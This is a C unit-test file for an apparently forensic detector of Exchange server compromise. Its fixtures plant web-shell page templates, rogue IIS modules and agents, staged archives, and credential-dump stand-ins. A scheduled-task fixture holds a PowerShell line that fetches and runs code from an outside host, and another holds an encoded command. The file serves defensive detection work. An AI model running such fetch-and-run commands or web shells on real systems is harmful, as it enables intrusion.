#include "test.h"

#include "base/hash.h"
#include "compiled_page.h"
#include "files_bench.h"
#include "make_pe.h"
#include "shape_text.h"

static struct os_mem_node *add(struct bench *b, const char *path, struct str body)
{
    struct os_mem_node *n = os_mem_add(b->m, path, str_dup(&b->disk.a, body));
    CHECK(n != NULL);
    n->mtime_us = INT64_C(1614758400000000);        /* 2021-03-03 08:00 */
    return n;
}
static void text(struct bench *b, const char *path, const char *body) { add(b, path, str_c(body)); }
static void page(struct bench *b, const char *path, const char *plan)
{
    char   to[4096];
    size_t n = shape_text(to, sizeof to, plan);
    add(b, path, (struct str){ (uint8_t *)to, n });
}
static void program(struct bench *b, const char *path, const struct make_pe *pe)
{
    uint8_t to[MAKE_PE_MAX];
    size_t  n = make_pe(to, pe);
    add(b, path, (struct str){ to, n });
}
static void settings(struct bench *b, const char *path, const char *url)
{
    char   to[4096];
    size_t n = shape_settings(to, sizeof to, url);
    add(b, path, (struct str){ (uint8_t *)to, n });
}

static void hunt_paths(struct bench *b, const char *one, const char *two, uint32_t jobs)
{
    struct str          path[2] = { str_c(one), str_c(two) };
    struct hunt_options opt = { .jobs = jobs, .since_us = TIME_NONE, .until_us = TIME_NONE };
    struct files_context c = { .ev = &b->v, .pack = &b->pack, .opt = &opt, .keep = &b->keep.a, .found = &b->found, .bytes_read = &b->bytes };

    if (!ev_open(&b->v, &b->m->os, &b->keep.a, path, two ? 2 : 1, &b->e))
        fail_msg("ev_open: %s", b->e.what);
    memset(&b->found, 0, sizeof b->found);
    b->found.ev = &b->v;
    b->found.pack = &b->pack;
    b->found.server.installed_us = b->found.server.patched_us = b->found.server.build_at_us = TIME_NONE;
    b->found.server.um_role = -1;
    for (size_t i = 0; i < FAM_COUNT; i++)
        b->found.seen[i].oldest_us = b->found.seen[i].newest_us = TIME_NONE;
    if (!files_detect(&c, &b->e))
        fail_msg("files_detect: %s", b->e.what);
}

static void hunt(struct bench *b, uint32_t jobs) { hunt_paths(b, "/case", NULL, jobs); }

static void list(const struct bench *b)
{
    for (size_t i = 0; i < b->found.fact_n; i++) {
        const struct file_fact *f = &b->found.fact[i];
        print_message("  %d %.*s | %.*s | %.*s | url %.*s | key %.*s | state %d | %.*s\n", (int)f->kind, STR_ARG(f->detector), STR_ARG(f->path), STR_ARG(f->title), STR_ARG(f->url),
                      STR_ARG(f->key), (int)f->state, STR_ARG(f->why));
    }
}

static const struct file_fact *fact(const struct bench *b, enum file_fact_kind kind, const char *detector, const char *path)
{
    for (size_t i = 0; i < b->found.fact_n; i++) {
        const struct file_fact *f = &b->found.fact[i];
        if (f->kind == kind && str_eq(f->detector, str_c(detector)) && str_iends(f->path, str_c(path)))
            return f;
    }
    list(b);
    fail_msg("no %s about %s", detector, path);
    return NULL;
}

static size_t count(const struct bench *b, enum file_fact_kind kind)
{
    size_t n = 0;
    for (size_t i = 0; i < b->found.fact_n; i++)
        n += b->found.fact[i].kind == kind;
    return n;
}

#define WEB  "/case/C/inetpub/wwwroot"
#define PROXY "/case/D/Exch/V15/FrontEnd/HttpProxy"
#define TEMP "/case/C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/e22c2559/92c7e946"
#define CONFIG "/case/C/Windows/System32/inetsrv/config/applicationHost.config"
#define SETUP "/case/C/ExchangeSetupLogs"

static const char app_host[] =
    "<configuration><system.applicationHost><sites>"
    "<site name=\"Default Web Site\" id=\"1\"><application path=\"/\"><virtualDirectory path=\"/\" physicalPath=\"%SystemDrive%\\inetpub\\wwwroot\"/></application>"
    "<application path=\"/owa\"><virtualDirectory path=\"/\" physicalPath=\"D:\\Exch\\V15\\FrontEnd\\HttpProxy\\owa\"/></application>"
    "<application path=\"/ecp\"><virtualDirectory path=\"/\" physicalPath=\"D:\\Exch\\V15\\FrontEnd\\HttpProxy\\ecp\"/></application>"
    "<bindings><binding protocol=\"https\" bindingInformation=\"*:443:\"/></bindings></site>%s"
    "</sites></system.applicationHost><system.webServer><globalModules>"
    "<add name=\"HttpLoggingModule\" image=\"%%windir%%\\System32\\inetsrv\\loghttp.dll\"/>"
    "<add name=\"kerbauth\" image=\"D:\\Exch\\V15\\Bin\\kerbauth.dll\"/>%s</globalModules>"
    "<handlers><add name=\"PageHandlerFactory\" path=\"*.aspx\" type=\"System.Web.UI.PageHandlerFactory\"/></handlers></system.webServer></configuration>";

static void host(struct bench *b, const char *site, const char *more)
{
    char   to[4096];
    size_t n = 0;

    for (const char *p = app_host, *in[2] = { site, more }, **q = in; *p && n < sizeof to - 300;) {
        if (p[0] == '%' && p[1] == 's') {
            n += (size_t)snprintf(to + n, sizeof to - n, "%s", *q++);
            p += 2;
        } else {
            to[n++] = *p;
            p += p[0] == '%' && p[1] == '%' ? 2 : 1;
        }
    }
    add(b, CONFIG, (struct str){ (uint8_t *)to, n });
}

/* A server as setup left it, patched on the fifth of March. */
static void clean_server(struct bench *b, const uint16_t version[4])
{
    static const char setup_log[] =
        "[11.04.2020 17:13:08.0074] [0] Starting Microsoft Exchange Server 2016 Setup\r\n"
        "[11.04.2020 17:13:08.0078] [0] Local time zone: (UTC+01:00) Amsterdam, Berlin, Bern, Rome, Stockholm, Vienna.\r\n"
        "[11.04.2020 17:13:08.0081] [0] Setup version: 15.1.2106.2.\r\n"
        "[11.04.2020 17:13:08.0121] [0] Command Line Parameter Name='mode', Value='Install'.\r\n"
        "[11.04.2020 18:02:11.0500] [0] The Exchange Server setup operation completed successfully.\r\n";
    static const char services[] =
        "[21:50:54] * ServiceControl.ps1: 3/5/2021 9:50:54 PM\r\n[21:50:56] Saving service and registry data\r\n"
        "[22:31:20] * ServiceControl.ps1: 3/5/2021 10:31:20 PM\r\n[22:31:21] Restoring service state\r\n[22:41:00] Starting services\r\n";
    struct make_pe exsetup = { .version = version, .product = "Microsoft Exchange" };

    host(b, "", "");
    text(b, WEB "/iisstart.htm", "<html></html>");
    text(b, WEB "/aspnet_client/system_web/4_0_30319/readme.htm", "x");
    text(b, PROXY "/owa/web.config", "<configuration><system.web><compilation/></system.web></configuration>");
    text(b, PROXY "/owa/auth/15.1.2106/scripts/premium/x.js", "1");
    text(b, "/case/D/Exch/V15/ClientAccess/ecp/default.aspx", "<p></p>");
    program(b, "/case/D/Exch/V15/Bin/ExSetup.exe", &exsetup);
    text(b, SETUP "/ExchangeSetup.log", setup_log);
    text(b, SETUP "/ServiceControl.log", services);
    text(b, "/case/D/Exch/V15/TransportRoles/Shared/agents.config",
         "<configuration><mexRuntime><agentList><agent name=\"Transport Rule Agent\" assemblyPath=\"D:\\Exch\\V15\\TransportRoles\\agents\\Rule\\R.dll\" enabled=\"true\"/>"
         "<agent name=\"Malware Agent\" assemblyPath=\"D:\\Exch\\V15\\TransportRoles\\agents\\Hygiene\\H.dll\" enabled=\"true\"/></agentList></mexRuntime></configuration>");
}

static const uint16_t fixed[4] = { 15, 1, 2106, 13 }, open_build[4] = { 15, 1, 2106, 2 };

static bool at(int64_t us, const char *want)
{
    char got[TIME_TEXT];
    time_text(us, got);
    if (strcmp(got, want) != 0)
        print_message("got %s, want %s\n", got, want);
    return strcmp(got, want) == 0;
}

static void test_clean(void **state)
{
    struct bench *b = *state;

    clean_server(b, fixed);
    hunt(b, 2);
    for (size_t i = 0; i < b->found.fact_n; i++)
        if (b->found.fact[i].kind != FILE_FACT_EXPOSURE) {
            list(b);
            fail_msg("a clean server is accused");
        }
    const struct server *s = &b->found.server;
    CHECK(s->product_n == 1);
    CHECK_STR(s->product[0].build, STR("15.1.2106.13"));
    CHECK(at(s->installed_us, "2020-11-04T18:02:11.050Z"));
    CHECK(at(s->patched_us, "2021-03-05T21:41:00Z"));
    uint8_t digest[HASH_SHA256_BYTES];                     /* a citation's hash is of its line: the log grows, and two hunts are compared by it */
    CHECK(hash_sha256(s->installed_cite.excerpt, digest) && s->installed_cite.has_raw && memcmp(digest, s->installed_cite.raw_sha256, sizeof digest) == 0);
    CHECK(b->found.seen[FAM_IIS_CONFIG].files == 1 && !b->found.seen[FAM_IIS_CONFIG].roots_missing);
    CHECK(b->found.seen[FAM_TRANSPORT_AGENTS].files == 1 && b->found.seen[FAM_SETUP].files == 2);
    CHECK(b->bytes > 0);
}

static void test_not_patched(void **state)
{
    struct bench *b = *state;

    clean_server(b, open_build);
    hunt(b, 1);
    CHECK(b->found.server.patched_us == TIME_NONE);
}

static void test_pages(void **state)
{
    struct bench *b = *state;
    const struct file_fact *f;

    clean_server(b, open_build);
    settings(b, WEB "/aspnet_client/supp0rt.aspx", "http://f/<{s} {l}=\"{j}\" {a}>function Page_Load(){{e}({r}[\"orange\"],\"{u}\");}</{s}>");
    settings(b, PROXY "/owa/auth/OutlookEN.aspx", "http://g/");
    settings(b, WEB "/aspnet_client/x1.config", "http://f/<{s} {l}=\"{j}\" {a}>{e}({r}[\"orange\"],\"{u}\");</{s}>");
    page(b, PROXY "/owa/auth/RedirSuiteServerProxy.aspx", "{o}@ Page {l}=\"{j}\"{c}{o}{e}({r}.Item[\"key9\"],\"{u}\");{c}");
    page(b, PROXY "/owa/auth/errorFF.aspx", "{o}@ Page {l}=\"C#\"{c}{o}= 1 {c}");
    page(b, PROXY "/owa/auth/logon.aspx", "{o}@ Page {l}=\"C#\"{c}{o}= 2 {c} branded");
    page(b, WEB "/aspnet_client/system_web/log.aspx", "{o}@ Page {l}=\"C#\"{c}{o}= 3 {c}");
    page(b, WEB "/aspnet_client/system_web/empty.aspx", "<p>nothing</p>");
    page(b, WEB "/status.aspx", "{o}@ Page {l}=\"C#\"{c}{o}= 4 {c}");
    page(b, WEB "/aspnet_client/ChackLogsPL.aspx", "<p>x</p>");
    page(b, "/case/C/ProgramData/kept.aspx", "{o}@ Page {l}=\"{j}\"{c}{o}{e}({r}.Item[\"key9\"],\"{u}\");{c}");
    page(b, WEB "/app.aspx", "{o}@ Page {l}=\"C#\" Inherits=\"App.Page\"{c}{o}# Eval(\"x\") {c}");
    hunt(b, 2);

    f = fact(b, FILE_FACT_PAGE, "files/settings-export", "\\aspnet_client\\supp0rt.aspx");
    CHECK_STR(f->path, STR("C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx"));
    CHECK_STR(f->url, STR("/aspnet_client/supp0rt.aspx"));
    CHECK_STR(f->key, STR("orange"));
    CHECK_STR(f->what, STR("evaluator"));
    CHECK(f->state == THING_PRESENT && f->reachable == REACH_YES && f->severity == SEV_CRITICAL && f->hash_hex.n == 64 && f->cite.has_raw);
    CHECK(at(f->time_us, "2021-03-03T06:59:20Z"));
    CHECK(str_chr(f->cite.excerpt, '<') == STR_NONE);
    CHECK(fact(b, FILE_FACT_PAGE, "files/settings-export", "\\aspnet_client\\x1.config")->reachable == REACH_NO);
    f = fact(b, FILE_FACT_PAGE, "files/settings-export", "\\owa\\auth\\OutlookEN.aspx");
    CHECK(f->severity == SEV_HIGH && f->confidence < 0.9);
    f = fact(b, FILE_FACT_PAGE, "files/evaluator", "\\owa\\auth\\RedirSuiteServerProxy.aspx");
    CHECK_STR(f->key, STR("key9"));
    CHECK_STR(f->url, STR("/owa/auth/redirsuiteserverproxy.aspx"));
    f = fact(b, FILE_FACT_PAGE_REVIEW, "files/extra-page", "\\owa\\auth\\errorFF.aspx");
    CHECK(str_has(f->why, STR("errorFE.aspx")) && f->severity == SEV_HIGH);
    CHECK(fact(b, FILE_FACT_PAGE_REVIEW, "files/changed-page", "\\owa\\auth\\logon.aspx")->severity == SEV_LOW);
    fact(b, FILE_FACT_PAGE, "files/published-path", "\\aspnet_client\\system_web\\log.aspx");
    CHECK(fact(b, FILE_FACT_PAGE_REVIEW, "files/aspnet-client-page", "\\system_web\\empty.aspx")->severity == SEV_MEDIUM);
    fact(b, FILE_FACT_PAGE_REVIEW, "files/root-page", "\\wwwroot\\status.aspx");
    CHECK(fact(b, FILE_FACT_PAGE, "files/evaluator", "\\ProgramData\\kept.aspx")->reachable == REACH_NO);
    CHECK(count(b, FILE_FACT_PAGE) == 6 && count(b, FILE_FACT_PAGE_REVIEW) == 5);
    CHECK(str_has(fact(b, FILE_FACT_PAGE_REVIEW, "files/aspnet-client-page", "\\ChackLogsPL.aspx")->why, STR("Black Kingdom")));
    CHECK_STR(b->found.server.name, STR("EXCH01"));
    CHECK_STR(b->found.server.domain, STR("bakery.example"));
}

/* A shadow copy shows an earlier day: only a live folder that was collected says that the page is gone. */
static void test_shadow_copies(void **state)
{
    struct bench *b = *state;
    const char   *plan = "{o}@ Page {l}=\"{j}\"{c}{o}{e}({r}.Item[\"key9\"],\"{u}\");{c}";
    const struct file_fact *f;

    clean_server(b, open_build);
    text(b, "/case/2021-03-12T10_00_00_1234567_Exchange_CopyLog.csv", "CopiedTimestamp,SourceFile,DestinationFile\r\n");
    text(b, WEB "/aspnet_client/system_web/4_0_30319/x.txt", "x");
    page(b, "/case/VSS1/inetpub/wwwroot/aspnet_client/system_web/gone.aspx", plan);
    page(b, "/case/VSS1/inetpub/elsewhere/who.aspx", plan);
    hunt(b, 1);
    f = fact(b, FILE_FACT_PAGE, "files/evaluator", "\\system_web\\gone.aspx");
    CHECK(f->earlier && f->state == THING_REMOVED && f->reachable == REACH_NO);
    f = fact(b, FILE_FACT_PAGE, "files/evaluator", "\\elsewhere\\who.aspx");
    CHECK(f->earlier && f->state == THING_UNKNOWN && f->reachable != REACH_YES);
}

/* Two collections of one server that differ: the page counts as there, and the report says that one lacks it. */
static void test_two_states(void **state)
{
    struct bench *b = *state;
    const char   *plan = "{o}@ Page {l}=\"{j}\"{c}{o}{e}({r}.Item[\"key9\"],\"{u}\");{c}";

    clean_server(b, open_build);
    page(b, WEB "/aspnet_client/kept.aspx", plan);
    page(b, WEB "/aspnet_client/gone.aspx", plan);
    page(b, "/later/C/inetpub/wwwroot/aspnet_client/kept.aspx", plan);
    hunt_paths(b, "/case", "/later", 1);
    CHECK(fact(b, FILE_FACT_PAGE, "files/evaluator", "\\aspnet_client\\gone.aspx")->state != THING_REMOVED);
    CHECK(str_has(fact(b, FILE_FACT_NOTE, "files/differs", "\\aspnet_client\\gone.aspx")->why, STR("/later")));
    size_t told = 0;
    for (size_t i = 0; i < b->found.fact_n; i++)
        told += str_eq(b->found.fact[i].detector, STR("files/differs"));
    CHECK(told == 1);
}

/* A build that the list does not know is one question, not twenty. */
static void test_newer_build(void **state)
{
    struct bench *b = *state;

    clean_server(b, fixed);
    text(b, PROXY "/owa/auth/logon.aspx", "newer 1");
    text(b, PROXY "/owa/auth/logoff.aspx", "newer 2");
    text(b, PROXY "/owa/auth/errorFE.aspx", "newer 3");
    text(b, PROXY "/ecp/auth/TimeoutLogout.aspx", "newer 4");
    hunt(b, 1);
    CHECK(count(b, FILE_FACT_NOTE) == 1 && count(b, FILE_FACT_PAGE_REVIEW) == 0 && count(b, FILE_FACT_PAGE) == 0);
    fact(b, FILE_FACT_NOTE, "files/changed-page", ".aspx");
}

static void compiled(struct bench *b, const char *name, const char *url, const char *assembly)
{
    char path[400], body[600];
    snprintf(path, sizeof path, TEMP "/%s.1a2b3c4d.compiled", name);
    snprintf(body, sizeof body, "<?xml version=\"1.0\" encoding=\"utf-8\"?><preserve resultType=\"3\" virtualPath=\"%s\" assembly=\"%s\"><filedeps><filedep name=\"%s\"/></filedeps></preserve>", url, assembly, url);
    text(b, path, body);
}

/* A page that is gone, and the library that ASP.NET made of it: its own instructions say what it did. */
static void test_compiled_code(void **state)
{
    struct bench *b = *state;
    struct str    dll = compiled_page();

    clean_server(b, open_build);
    compiled(b, "probe.aspx", "/aspnet_client/probe.aspx", "App_Web_ffffffff");
    add(b, TEMP "/App_Web_ffffffff.dll", dll);
    hunt(b, 1);
    const struct file_fact *f = fact(b, FILE_FACT_PAGE_LEFT, "files/compiled-assembly", "\\aspnet_client\\probe.aspx");
    CHECK(f->state == THING_REMOVED && f->severity == SEV_HIGH && str_has(f->why, STR("starts programs")) && str_has(f->why, STR("\"cmd\"")));
    test_free(dll);
}

static void test_leftovers(void **state)
{
    struct bench *b = *state;
    static const char *const us[] = { "OfflineAddressBooks", "~/aspnet_client/gone.aspx", NULL }, *const none[] = { "hello", NULL };
    struct make_pe guilty = { .user_strings = us }, plain = { .user_strings = none };
    const struct file_fact *f;

    clean_server(b, open_build);
    compiled(b, "gone.aspx", "/aspnet_client/gone.aspx", "App_Web_aaaaaaaa");
    compiled(b, "x.aspx", "/aspnet_client/x.aspx", "App_Web_bbbbbbbb");
    compiled(b, "y.aspx", "/aspnet_client/y.aspx", "App_Web_bbbbbbbb");
    compiled(b, "logon.aspx", "/owa/auth/logon.aspx", "App_Web_cccccccc");
    compiled(b, "load.aspx", "/aspnet_client/load.aspx", "App_Web_dddddddd");
    compiled(b, "far.aspx", "/shop/far.aspx", "App_Web_eeeeeeee");
    program(b, TEMP "/App_Web_aaaaaaaa.dll", &guilty);
    program(b, TEMP "/App_Web_bbbbbbbb.dll", &plain);
    text(b, TEMP "/cut.aspx.1.compiled", "<preserve");
    page(b, WEB "/aspnet_client/y.aspx", "<p></p>");
    hunt(b, 2);

    f = fact(b, FILE_FACT_PAGE_LEFT, "files/compiled-assembly", "\\aspnet_client\\gone.aspx");
    CHECK(f->state == THING_REMOVED && f->alone && f->severity == SEV_HIGH && f->reachable == REACH_NO);
    CHECK_STR(f->url, STR("/aspnet_client/gone.aspx"));
    f = fact(b, FILE_FACT_PAGE_LEFT, "files/compiled", "\\aspnet_client\\x.aspx");
    CHECK(f->state == THING_REMOVED && !f->alone && f->severity == SEV_MEDIUM);
    f = fact(b, FILE_FACT_PAGE_LEFT, "files/compiled", "\\aspnet_client\\y.aspx");
    CHECK(f->state == THING_PRESENT && f->severity == SEV_LOW);
    CHECK(fact(b, FILE_FACT_PAGE_LEFT, "files/compiled", "\\aspnet_client\\load.aspx")->severity == SEV_HIGH);
    for (size_t i = 0; i < b->found.fact_n; i++)
        CHECK(!str_ihas(b->found.fact[i].url, STR("logon.aspx")));
    CHECK(b->found.seen[FAM_TEMP_ASPNET].damage_n == 1);
}

static void test_config(void **state)
{
    struct bench *b = *state;
    const struct file_fact *f;

    clean_server(b, open_build);
    host(b, "<site name=\"x\" id=\"9\"><application path=\"/files\"><virtualDirectory path=\"/\" physicalPath=\"C:\\ProgramData\\COM1\"/></application></site>",
         "<add name=\"HttpCacheHelp\" image=\"C:\\ProgramData\\x\\help.dll\"/><add name=\"Apm\" image=\"C:\\Program Files\\Apm\\apm.dll\"/>");
    text(b, WEB "/aspnet_client/web.config", "<configuration><system.webServer><handlers><add name=\"g\" path=\"*.gif\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\"/></handlers></system.webServer></configuration>");
    text(b, WEB "/web.config", "<configuration><system.webServer><rewrite><rules>"
         "<rule name=\"X-AnonResource-Backend Abort - inbound\"><match url=\".*\"/><action type=\"AbortRequest\"/></rule>"
         "<rule name=\"X-BEResource Abort - inbound\"><match url=\".*\"/><action type=\"AbortRequest\"/></rule></rules></rewrite></system.webServer></configuration>");
    text(b, "/case/D/Exch/V15/TransportRoles/Shared/agents.config",
         "<mexRuntime><agentList><agent name=\"Helper\" assemblyPath=\"C:\\ProgramData\\h\\h.dll\" enabled=\"true\"/>"
         "<agent name=\"Exclaimer\" assemblyPath=\"C:\\Program Files\\Exclaimer Ltd\\e.dll\" enabled=\"true\"/></agentList></mexRuntime>");
    text(b, "/case/C/Windows/System32/Tasks/Winnet", "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-enc AAAA</Arguments></Exec></Actions></Task>");
    text(b, "/case/C/Windows/System32/Tasks/VSPerfMon", "<Task><Actions><Exec><Command>C:\\Program Files\\Microsoft Visual Studio\\vsperfmon.exe</Command></Exec></Actions></Task>");
    text(b, "/case/C/Windows/System32/Tasks/Other", "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>IEX (fetch 'http://p.estonine.com/p')</Arguments></Exec></Actions></Task>");
    text(b, "/case/C/Windows/System32/Tasks/Backup", "<Task><Actions><Exec><Command>C:\\Program Files\\Backup\\b.exe</Command></Exec></Actions></Task>");
    hunt(b, 1);

    f = fact(b, FILE_FACT_WAY_BACK, "config/virtual-directory", "\\ProgramData\\COM1");
    CHECK_STR(f->url, STR("/files"));
    fact(b, FILE_FACT_WAY_BACK, "config/module", "\\ProgramData\\x\\help.dll");
    fact(b, FILE_FACT_NOTE, "config/module-unknown", "\\Apm\\apm.dll");
    fact(b, FILE_FACT_WAY_BACK, "files/config-handler", "\\aspnet_client\\web.config");
    fact(b, FILE_FACT_WAY_BACK, "config/agent", "\\ProgramData\\h\\h.dll");
    fact(b, FILE_FACT_NOTE, "config/agent-other", "\\Exclaimer Ltd\\e.dll");
    f = fact(b, FILE_FACT_WAY_BACK, "files/task", "\\Tasks\\Other");
    CHECK(str_has(f->why, STR("Red Canary")));
    fact(b, FILE_FACT_NOTE, "files/task-odd", "\\vsperfmon.exe");       /* a name alone never accuses */
    f = fact(b, FILE_FACT_WAY_BACK, "files/task", "\\Tasks\\Winnet");
    CHECK_STR(f->what, STR("scheduled_task"));
    fact(b, FILE_FACT_MITIGATION, "files/mitigation", "\\wwwroot\\web.config");
    CHECK(b->found.server.mitigated);
    CHECK(count(b, FILE_FACT_WAY_BACK) == 6);
}

static void test_things(void **state)
{
    struct bench *b = *state;
    uint8_t hive[4096] = "regf", dump[4096] = "MDMP";

    clean_server(b, open_build);
    for (size_t i = 0; i < 3; i++)
        hive[0x30 + 2 * i] = (uint8_t)"SAM"[i];
    for (size_t i = 0; i < 9; i++)
        dump[100 + 2 * i] = (uint8_t)"lsass.exe"[i];
    add(b, PROXY "/owa/auth/Current/themes/resources/logo.gif", (struct str){ (const uint8_t *)"7z\xBC\xAF\x27\x1C....", 10 });
    add(b, WEB "/aspnet_client/it.zip", (struct str){ (const uint8_t *)"PK\x03\x04......", 10 });
    add(b, "/case/C/ProgramData/it.zip", (struct str){ (const uint8_t *)"PK\x03\x04......", 10 });
    add(b, "/case/C/ProgramData/pst/box.zip", (struct str){ (const uint8_t *)"PK\x03\x04......", 10 });
    add(b, "/case/C/ProgramData/installer-cache.zip", (struct str){ (const uint8_t *)"PK\x03\x04......", 10 });
    add(b, "/case/C/Windows/Temp/d.dmp", (struct str){ dump, sizeof dump });
    add(b, "/case/C/Users/Public/s.dat", (struct str){ hive, sizeof hive });
    text(b, "/case/C/Users/Public/Opera/opera_browser.exe", "not really");
    text(b, "/case/C/decrypt_file.TxT", "pay");
    text(b, "/case/C/Windows/debug/msert.log", "Microsoft Safety Scanner v1.333\r\nStarted On Tue Mar  9 10:05:22 2021\r\nThreat Detected: Backdoor:ASP/Example.A!dha and Removed!\r\n"
         "  Action: Remove, Result: 0x00000000\r\n    file://C:\\inetpub\\wwwroot\\aspnet_client\\was.aspx\r\n");
    text(b, "/case/C/EOMTSummary.txt", "EOMT mitigation summary: CVE-2021-26855");
    hunt(b, 2);

    CHECK(fact(b, FILE_FACT_LOOT, "files/loot", "\\aspnet_client\\it.zip")->reachable == REACH_YES);
    fact(b, FILE_FACT_LOOT, "files/loot", "\\ProgramData\\it.zip");
    fact(b, FILE_FACT_LOOT, "files/loot", "\\ProgramData\\pst\\box.zip");
    fact(b, FILE_FACT_NOTE, "files/loot", "\\ProgramData\\installer-cache.zip");
    fact(b, FILE_FACT_SECRET, "files/secret", "\\Temp\\d.dmp");
    fact(b, FILE_FACT_SECRET, "files/secret", "\\Public\\s.dat");
    fact(b, FILE_FACT_TOOL, "files/published-path", "\\opera_browser.exe");
    fact(b, FILE_FACT_RANSOM, "files/ransom", "\\decrypt_file.TxT");
    const struct file_fact *f = fact(b, FILE_FACT_AV, "files/msert", "\\aspnet_client\\was.aspx");
    CHECK(f->state == THING_REMOVED && at(f->removed_us, "2021-03-09T10:05:22Z"));
    CHECK_STR(f->url, STR("/aspnet_client/was.aspx"));
    fact(b, FILE_FACT_MITIGATION, "files/eomt", "\\EOMTSummary.txt");
}

/* The same facts whatever the number of threads, and whatever cannot be read. */
static void test_jobs_and_damage(void **state)
{
    struct bench *b = *state;
    size_t n[2];

    clean_server(b, open_build);
    for (int i = 0; i < 40; i++) {
        char path[100];
        snprintf(path, sizeof path, WEB "/aspnet_client/p%d.aspx", i);
        page(b, path, "{o}@ Page {l}=\"{j}\"{c}{o}{e}({r}.Item[\"k\"],\"{u}\");{c}");
    }
    os_mem_find(b->m, STR(WEB "/aspnet_client/p7.aspx"))->unreadable = true;
    os_mem_find(b->m, STR(WEB "/aspnet_client/p8.aspx"))->vanished = true;
    text(b, PROXY "/ecp/web.config", "<configuration><system.web");
    for (int i = 0; i < 2; i++) {
        hunt(b, i ? 4 : 1);
        n[i] = b->found.fact_n;
        CHECK(count(b, FILE_FACT_PAGE) == 38);
        CHECK(b->found.seen[FAM_WEB_ROOTS].damage_n == 3 && b->v.refused_n >= 2);
        for (size_t k = 1; k < b->found.fact_n; k++)
            if (b->found.fact[k].kind == FILE_FACT_PAGE && b->found.fact[k - 1].kind == FILE_FACT_PAGE)
                CHECK(b->found.fact[k - 1].cite.node < b->found.fact[k].cite.node);
        ev_close(&b->v);
        memset(&b->v, 0, sizeof b->v);
    }
    CHECK(n[0] == n[1]);
    hunt(b, 1);
}

static bool detect(struct bench *b, struct arena *keep, struct err *e)
{
    struct hunt_options  opt = { .jobs = 1, .since_us = TIME_NONE, .until_us = TIME_NONE };
    struct files_context c = { .ev = &b->v, .pack = &b->pack, .opt = &opt, .keep = keep, .found = &b->found, .bytes_read = &b->bytes };

    memset(&b->found, 0, sizeof b->found);
    b->found.server.um_role = -1;
    b->found.server.installed_us = b->found.server.patched_us = b->found.server.build_at_us = TIME_NONE;
    return files_detect(&c, e);
}

/*
 * Any allocation and any read may fail. A file that cannot be read is damage and the hunt goes on; a fact whose text found no room may be
 * poorer or missing (fact_more counts it). What never happens: a crash, a false without a reason, a handle left open.
 */
static void test_faults(void **state)
{
    struct bench *b = *state;

    clean_server(b, open_build);
    settings(b, WEB "/aspnet_client/supp0rt.aspx", "http://f/<{s} {l}=\"{j}\" {a}>function Page_Load(){{e}({r}[\"orange\"],\"{u}\");}</{s}>");
    compiled(b, "gone.aspx", "/aspnet_client/gone.aspx", "App_Web_aaaaaaaa");
    text(b, "/case/C/Windows/debug/msert.log", "Started On Tue Mar  9 10:05:22 2021\r\nThreat Detected: Backdoor:ASP/E and Removed!\r\n    file://C:\\x.aspx\r\n");
    hunt(b, 1);
    size_t whole = b->found.fact_n;
    for (uint32_t n = 1, more = 1; more; n += 1 + n / 40) {
        struct fault f = { .left = n };
        struct arena keep = b->keep.a;
        struct err   e = { 0 };

        keep.fault = &f;
        bool ok = detect(b, &keep, &e);
        CHECK(ok || (e.kind != ERR_NONE && e.what[0]));
        more = f.fired;
        if (!f.fired)
            CHECK(ok && b->found.fact_n == whole);
    }
    for (uint32_t n = 1, more = 1; more; n++) {
        struct arena keep = b->keep.a;
        struct err   e = { 0 };

        b->m->fault = (struct fault){ .left = n };
        CHECK(detect(b, &keep, &e));
        more = b->m->fault.fired;
        CHECK(b->m->open_now == 0);
    }
    b->m->fault = (struct fault){ 0 };
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_clean, bench_setup, bench_teardown),     cmocka_unit_test_setup_teardown(test_not_patched, bench_setup, bench_teardown),
        cmocka_unit_test_setup_teardown(test_pages, bench_setup, bench_teardown),     cmocka_unit_test_setup_teardown(test_leftovers, bench_setup, bench_teardown), cmocka_unit_test_setup_teardown(test_compiled_code, bench_setup, bench_teardown),
        cmocka_unit_test_setup_teardown(test_config, bench_setup, bench_teardown),    cmocka_unit_test_setup_teardown(test_things, bench_setup, bench_teardown),
        cmocka_unit_test_setup_teardown(test_faults, bench_setup, bench_teardown),    cmocka_unit_test_setup_teardown(test_newer_build, bench_setup, bench_teardown),
        cmocka_unit_test_setup_teardown(test_jobs_and_damage, bench_setup, bench_teardown), cmocka_unit_test_setup_teardown(test_shadow_copies, bench_setup, bench_teardown),
        cmocka_unit_test_setup_teardown(test_two_states, bench_setup, bench_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
